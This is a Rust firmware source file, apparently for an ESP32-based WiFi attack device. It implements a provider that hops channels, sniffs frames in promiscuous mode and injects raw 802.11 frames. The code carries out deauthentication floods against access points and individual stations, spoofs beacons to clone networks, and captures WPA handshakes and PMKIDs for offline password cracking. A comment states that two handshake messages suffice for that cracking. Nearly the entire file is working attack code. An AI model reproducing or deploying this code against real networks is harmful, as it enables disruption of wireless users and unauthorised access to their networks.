//! WiFi capability provider.
//!
//! The esp-radio sniffer callback runs in ISR context; it parses every frame
//! with [`observe::parse_wifi_frame`] and hands results to the provider
//! through bounded static channels. Everything else (channel hopping, frame
//! injection, capture bookkeeping) happens in `on_tick`.

use core::cell::Cell;

use critical_section::Mutex;
use embassy_sync::blocking_mutex::raw::CriticalSectionRawMutex;
use embassy_sync::channel::Channel;
use esp_radio::wifi::sniffer::{PromiscuousPkt, Sniffer};
use esp_radio::wifi::{ClientConfig, ModeConfig, WifiController};
use heapless::Vec;

use nightjar::actions::ActionType;
use nightjar::observe::{self, DEFAULT_DWELL_MS, PMKID_LEN, WIFI_CHANNELS};
use nightjar::provider::{CapabilityProvider, Observation};
use nightjar::radio::RadioOwner;
use nightjar::target::{MacAddr, Target};

/// Largest EAPOL frame kept from the sniffer
const MAX_EAPOL_FRAME: usize = 256;

/// Handshake frames kept per capture (M1..M4)
const MAX_HANDSHAKE: usize = 4;

/// Interval between injected bursts
const BURST_INTERVAL_MS: u64 = 100;

/// Deauth frames per burst and destination
const DEAUTH_PER_BURST: u32 = 4;

const BROADCAST: MacAddr = [0xFF; 6];

/// Never expected to authenticate. Joining only makes the AP send EAPOL M1,
/// which carries the PMKID.
const PMKID_JOIN_PASSPHRASE: &str = "00000000";

type EapolFrame = Vec<u8, MAX_EAPOL_FRAME>;

static OBSERVATIONS: Channel<CriticalSectionRawMutex, Observation, 16> = Channel::new();
static EAPOL: Channel<CriticalSectionRawMutex, EapolFrame, 4> = Channel::new();

/// BSSID whose EAPOL traffic the sniffer keeps, while a capture runs
static CAPTURE_BSSID: Mutex<Cell<Option<MacAddr>>> = Mutex::new(Cell::new(None));

// FFI bindings for channel control and raw frame injection.
// The symbols are linked via esp-radio's WiFi driver.
unsafe extern "C" {
    fn esp_wifi_set_channel(primary: u8, second: u32) -> i32;
    fn esp_wifi_80211_tx(ifx: u32, buffer: *const u8, len: i32, en_sys_seq: bool) -> i32;
}

/// Station interface index for `esp_wifi_80211_tx`
const WIFI_IF_STA: u32 = 0;

fn set_channel(channel: u8) {
    unsafe {
        esp_wifi_set_channel(channel, 0);
    }
}

fn inject(frame: &[u8]) -> bool {
    unsafe { esp_wifi_80211_tx(WIFI_IF_STA, frame.as_ptr(), frame.len() as i32, true) == 0 }
}

/// Whether one of the three header addresses is `mac`.
fn frame_mentions(frame: &[u8], mac: &MacAddr) -> bool {
    frame
        .get(4..22)
        .is_some_and(|addrs| addrs.chunks_exact(6).any(|addr| addr == mac))
}

/// WiFi sniffer callback, called from ISR context by the esp-radio sniffer.
/// Never blocks: full channels drop the frame.
fn sniffer_callback(pkt: PromiscuousPkt<'_>) {
    let rssi = pkt.rx_cntl.rssi as i8;
    let channel = pkt.rx_cntl.channel as u8;

    if observe::is_eapol_key(pkt.data) {
        let wanted = critical_section::with(|cs| CAPTURE_BSSID.borrow(cs).get());
        if let Some(bssid) = wanted {
            if frame_mentions(pkt.data, &bssid) {
                if let Ok(frame) = EapolFrame::from_slice(pkt.data) {
                    let _ = EAPOL.try_send(frame);
                }
            }
        }
    }

    if let Some(observation) = observe::parse_wifi_frame(pkt.data, rssi, channel) {
        let _ = OBSERVATIONS.try_send(observation);
    }
}

/// Deauthentication frame from `bssid` to `dest`, reason 7 (class 3 frame
/// from non-associated station).
fn deauth_frame(bssid: &MacAddr, dest: &MacAddr) -> [u8; 26] {
    let mut frame = [0u8; 26];
    frame[0] = 0xC0;
    frame[4..10].copy_from_slice(dest);
    frame[10..16].copy_from_slice(bssid);
    frame[16..22].copy_from_slice(bssid);
    frame[24] = 0x07;
    frame
}

/// Open beacon advertising `ssid` from `bssid` on `channel`.
fn beacon_frame(bssid: &MacAddr, ssid: &str, channel: u8) -> Vec<u8, 96> {
    let mut frame: Vec<u8, 96> = Vec::new();
    let ssid = &ssid.as_bytes()[..ssid.len().min(32)];
    let _ = frame.extend_from_slice(&[0x80, 0x00, 0x00, 0x00]);
    let _ = frame.extend_from_slice(&BROADCAST);
    let _ = frame.extend_from_slice(bssid);
    let _ = frame.extend_from_slice(bssid);
    let _ = frame.extend_from_slice(&[0x00, 0x00]);
    // Timestamp, interval 100 TU, capability ESS
    let _ = frame.extend_from_slice(&[0; 8]);
    let _ = frame.extend_from_slice(&[0x64, 0x00, 0x01, 0x00]);
    let _ = frame.push(0);
    let _ = frame.push(ssid.len() as u8);
    let _ = frame.extend_from_slice(ssid);
    // Supported rates 1, 2, 5.5, 11 Mbps
    let _ = frame.extend_from_slice(&[0x01, 0x04, 0x82, 0x84, 0x8B, 0x96]);
    let _ = frame.extend_from_slice(&[0x03, 0x01, channel]);
    frame
}

struct Running {
    action: ActionType,
    target: Target,
    next_burst_ms: u64,
}

pub struct WifiProvider {
    controller: WifiController<'static>,
    sniffer: Sniffer<'static>,
    mode: RadioOwner,
    scanning: bool,
    hop: usize,
    next_hop_ms: u64,
    running: Option<Running>,
    units: u32,
    handshake: Vec<EapolFrame, MAX_HANDSHAKE>,
    pmkid: Option<[u8; PMKID_LEN]>,
    artifact: Vec<u8, { MAX_EAPOL_FRAME * MAX_HANDSHAKE }>,
}

impl WifiProvider {
    pub fn new(controller: WifiController<'static>, sniffer: Sniffer<'static>) -> Self {
        Self {
            controller,
            sniffer,
            mode: RadioOwner::None,
            scanning: false,
            hop: 0,
            next_hop_ms: 0,
            running: None,
            units: 0,
            handshake: Vec::new(),
            pmkid: None,
            artifact: Vec::new(),
        }
    }

    fn hop_channel(&mut self, now_ms: u64) {
        if now_ms < self.next_hop_ms {
            return;
        }
        self.hop = (self.hop + 1) % WIFI_CHANNELS.len();
        set_channel(WIFI_CHANNELS[self.hop]);
        self.next_hop_ms = now_ms + DEFAULT_DWELL_MS;
    }

    fn burst(&mut self, now_ms: u64) {
        let Some(running) = self.running.as_mut() else {
            return;
        };
        if now_ms < running.next_burst_ms {
            return;
        }
        running.next_burst_ms = now_ms + BURST_INTERVAL_MS;

        let mut sent = 0;
        let target = &running.target;
        match running.action {
            ActionType::Deauth => {
                for dest in core::iter::once(&BROADCAST).chain(target.peers.iter()) {
                    let frame = deauth_frame(target.mac(), dest);
                    for _ in 0..DEAUTH_PER_BURST {
                        sent += inject(&frame) as u32;
                    }
                }
            }
            ActionType::StationDeauth => {
                for ap in &target.peers {
                    let frame = deauth_frame(ap, target.mac());
                    for _ in 0..DEAUTH_PER_BURST {
                        sent += inject(&frame) as u32;
                    }
                }
            }
            ActionType::BeaconClone => {
                let frame = beacon_frame(target.mac(), target.name.as_str(), target.channel);
                sent += inject(&frame) as u32;
            }
            _ => {}
        }
        self.units = self.units.saturating_add(sent);
    }

    /// Pull EAPOL frames the sniffer kept for the running capture.
    fn collect_eapol(&mut self) {
        while let Ok(frame) = EAPOL.try_receive() {
            self.units = self.units.saturating_add(1);
            if self.pmkid.is_none() {
                if let Some(pmkid) = observe::find_pmkid(&frame) {
                    let mut id = [0u8; PMKID_LEN];
                    id.copy_from_slice(pmkid);
                    self.pmkid = Some(id);
                }
            }
            let _ = self.handshake.push(frame);
        }

        if !self.artifact.is_empty() {
            return;
        }
        match self.running.as_ref().map(|r| r.action) {
            Some(ActionType::PmkidCapture) => {
                if let Some(pmkid) = self.pmkid {
                    let _ = self.artifact.extend_from_slice(&pmkid);
                }
            }
            // M1 and M2 are enough to crack offline
            Some(ActionType::HandshakeCapture) if self.handshake.len() >= 2 => {
                for frame in &self.handshake {
                    let _ = self.artifact.extend_from_slice(frame);
                }
            }
            _ => {}
        }
    }

    fn set_capture(bssid: Option<MacAddr>) {
        critical_section::with(|cs| CAPTURE_BSSID.borrow(cs).set(bssid));
    }

    /// Associate with the target AP so it sends the first handshake message.
    fn join(&mut self, target: &Target) -> bool {
        let config = ModeConfig::Client(
            ClientConfig::default()
                .with_ssid(target.name.as_str().into())
                .with_bssid(*target.mac())
                .with_channel(target.channel)
                .with_password(PMKID_JOIN_PASSPHRASE.into()),
        );
        if let Err(e) = self.controller.set_config(&config) {
            log::error!("WiFi: station config failed: {:?}", e);
            return false;
        }
        match self.controller.connect() {
            Ok(()) => true,
            Err(e) => {
                log::error!("WiFi: connect failed: {:?}", e);
                false
            }
        }
    }
}

impl CapabilityProvider for WifiProvider {
    fn name(&self) -> &'static str {
        "wifi"
    }

    fn init(&mut self) -> bool {
        self.sniffer.set_receive_cb(sniffer_callback);
        true
    }

    fn on_tick(&mut self, now_ms: u64) {
        if self.scanning {
            self.hop_channel(now_ms);
        }
        if self.running.is_some() {
            self.burst(now_ms);
            self.collect_eapol();
        }
    }

    fn stop_hardware_activities(&mut self) {
        self.scanning = false;
        if let Some(running) = self.running.take() {
            log::info!("WiFi: {} stopped", running.action.slug());
        }
        Self::set_capture(None);
        if self.mode == RadioOwner::WifiStation {
            let _ = self.controller.disconnect();
        }
        self.handshake.clear();
        self.pmkid = None;
        self.artifact.clear();
    }

    fn radio_up(&mut self, owner: RadioOwner) -> bool {
        let config = match owner {
            RadioOwner::WifiPromiscuous | RadioOwner::WifiStation => {
                ModeConfig::Client(ClientConfig::default())
            }
            _ => return false,
        };
        if let Err(e) = self.controller.set_config(&config) {
            log::error!("WiFi: config failed: {:?}", e);
            return false;
        }
        if let Err(e) = self.controller.start() {
            log::error!("WiFi: start failed: {:?}", e);
            return false;
        }
        // Station mode keeps the sniffer on to see the handshake it provokes
        if let Err(e) = self.sniffer.set_promiscuous_mode(true) {
            log::error!("WiFi: promiscuous mode failed: {:?}", e);
            let _ = self.controller.stop();
            return false;
        }
        self.mode = owner;
        true
    }

    fn radio_down(&mut self, _owner: RadioOwner) {
        self.stop_hardware_activities();
        let _ = self.sniffer.set_promiscuous_mode(false);
        let _ = self.controller.stop();
        self.mode = RadioOwner::None;
        // Frames sniffed before the switch are stale
        while OBSERVATIONS.try_receive().is_ok() {}
        while EAPOL.try_receive().is_ok() {}
    }

    fn begin_scan(&mut self, _duration_ms: Option<u32>) -> bool {
        if self.mode != RadioOwner::WifiPromiscuous {
            return false;
        }
        self.scanning = true;
        self.next_hop_ms = 0;
        true
    }

    fn begin_action(&mut self, action: ActionType, target: &Target) -> bool {
        let needs = nightjar::actions::definition(action).map(|def| def.radio);
        if needs != Some(self.mode) {
            return false;
        }
        self.scanning = false;
        self.units = 0;
        self.handshake.clear();
        self.pmkid = None;
        self.artifact.clear();

        // A station is only reachable through a known AP
        if action == ActionType::StationDeauth && target.peers.is_empty() {
            return false;
        }
        let channel = target.channel;
        if channel != 0 {
            set_channel(channel);
        }

        match action {
            ActionType::Deauth | ActionType::StationDeauth | ActionType::BeaconClone => {}
            ActionType::HandshakeCapture => Self::set_capture(Some(*target.mac())),
            ActionType::PmkidCapture => {
                Self::set_capture(Some(*target.mac()));
                if !self.join(target) {
                    Self::set_capture(None);
                    return false;
                }
            }
            _ => return false,
        }

        self.running = Some(Running {
            action,
            target: target.clone(),
            next_burst_ms: 0,
        });
        log::info!("WiFi: {} on channel {}", action.slug(), channel);
        true
    }

    fn units_sent(&self) -> u32 {
        self.units
    }

    fn has_captured_artifact(&self) -> bool {
        !self.artifact.is_empty()
    }

    fn artifact(&self) -> Option<&[u8]> {
        (!self.artifact.is_empty()).then_some(&self.artifact[..])
    }

    fn poll_observation(&mut self) -> Option<Observation> {
        OBSERVATIONS.try_receive().ok()
    }
}
